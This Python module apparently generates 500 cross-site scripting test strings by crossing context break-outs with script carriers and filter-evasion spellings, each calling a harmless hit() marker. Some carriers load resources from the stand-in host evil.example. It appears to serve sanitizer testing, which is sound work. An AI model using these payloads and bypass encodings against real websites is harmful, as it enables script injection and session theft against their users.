"""Texts that would run something in a page that takes them for HTML, an attribute, an address or a script.

Each is a carrier (what makes the browser run), in a spelling (how a filter may be passed), behind a way out of where
the text may stand. All of them call `hit()`; none is longer than the shortest field.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Iterator
from typing import Final

LONGEST: Final = 80
COUNT: Final = 500

WAYS_OUT: Final = [
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</noscript>", "</option></select>",
    "</svg>", "</template>", "`", "\\", "{{", "${", "*/", "\u2028", "\ufeff",
]  # fmt: skip
CARRIERS: Final = [
    *(
        f"<{tag} {attributes}{event}=hit()>"
        for tag, attributes, event in [
            ("img", "src=x ", "onerror"), ("svg", "", "onload"), ("body", "", "onpageshow"), ("video", "src=x ", "onerror"),
            ("audio", "src=x ", "onerror"), ("input", "autofocus ", "onfocus"), ("select", "autofocus ", "onfocus"),
            ("details", "open ", "ontoggle"), ("iframe", "", "onload"), ("object", "data=x ", "onerror"),
            ("embed", "src=x ", "onerror"), ("marquee", "", "onstart"), ("link", "rel=stylesheet href=x ", "onerror"),
            ("script", "src=x ", "onerror"), ("style", "", "onload"), ("a", "tabindex=0 autofocus ", "onfocus"),
            ("p", "style=animation:x ", "onanimationstart"), ("button", "popover ", "onbeforetoggle"),
        ]
    ),
    "<script>hit()</script>", "<script src=data:,hit()></script>", "<script type=module>hit()</script>",
    "<iframe srcdoc='<script>parent.hit()</script>'>", "<iframe src=javascript:parent.hit()>",
    "<a href=javascript:hit()>x</a>", "<form action=javascript:hit()><button>x", "<svg><a href=javascript:hit()><text>x",
    "<svg><script>hit()</script>", "<svg><animate onbegin=hit() attributeName=x dur=1s>", "<svg><set onbegin=hit() attributeName=x>",
    "<math><a href=javascript:hit()>x", "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<style>@import'//evil.example'</style>", "<p style=background:url(//evil.example)>", "<link rel=import href=//evil.example>",
    "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<template shadowrootmode=open><script>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<!--><img src=x onerror=hit()>", "<![CDATA[><img src=x onerror=hit()>",
    "javascript:hit()", "data:text/html,<script>hit()</script>", "vbscript:hit()", "[x](javascript:hit())", "![x](javascript:hit())",
    "<javascript:hit()>", "[x]: javascript:hit()", "`<img src=x onerror=hit()>`", "@<img src=x onerror=hit()>",
    "\" onmouseover=hit() x=\"", "' onfocus=hit() autofocus x='", "x onerror=hit()", "hit()", "';hit();'", "\";hit();\"",
]  # fmt: skip


def _upper(text: str) -> str:
    return text.replace("hit()", "\0").upper().replace("\0", "hit()")


def _mixed(text: str) -> str:
    return "".join(c.upper() if at % 2 else c for at, c in enumerate(text)).replace("HiT()", "hit()").replace("hIt()", "hit()")  # fmt: skip


SPELLINGS: Final = [
    lambda text: text,
    _upper,
    _mixed,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\u00a0"),
    lambda text: text.replace("=hit()", "='hit()'"),
    lambda text: text.replace("=hit()", "=hit`x`"),
    lambda text: text.replace("=hit()", "=&#104;it()"),
    lambda text: text.replace("javascript:", "java&#x09;script:"),
    lambda text: text.replace("javascript:", "&#x6A;avascript&colon;"),
    lambda text: text.replace("javascript:", "JaVaScRiPt:"),
    lambda text: text.replace("javascript:", "java%0ascript:"),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(">", ""),
    lambda text: text.replace("<script", "<scr<script>ipt"),
]


def payloads() -> list[str]:
    """500 of all that can be put together, always the same, every carrier and every spelling among them."""
    all_of_them = list(dict.fromkeys(_all()))
    plain = [one for one in CARRIERS if len(one) <= LONGEST]
    rest = [one for one in all_of_them if one not in set(plain)]
    return plain + random.Random(95).sample(rest, COUNT - len(plain))


def _all() -> Iterator[str]:
    for out, spell, carrier in itertools.product(WAYS_OUT, SPELLINGS, CARRIERS):
        made = out + spell(carrier)
        if len(made) <= LONGEST:
            yield made
